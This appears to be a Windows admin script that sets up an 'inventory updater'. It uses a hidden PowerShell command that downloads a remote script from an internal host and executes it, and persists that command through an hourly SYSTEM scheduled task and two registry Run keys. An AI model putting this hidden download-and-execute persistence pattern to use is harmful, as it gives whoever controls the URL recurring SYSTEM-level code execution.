# Make the inventory updater run at every logon and every hour.
$url = 'http://inventory.corp.local/agent/update.ps1'
$cmd = "powershell.exe -NoProfile -WindowStyle Hidden -Command `"iex (iwr '$url' -UseBasicParsing).Content`""

schtasks /create /tn 'InventoryUpdater' /tr $cmd /sc hourly /ru SYSTEM /f
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'InventoryUpdater' -Value $cmd -PropertyType String -Force
Set-ItemProperty -Path 'HKLM:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'InvSvc' -Value $cmd

schtasks /query /tn 'InventoryUpdater'
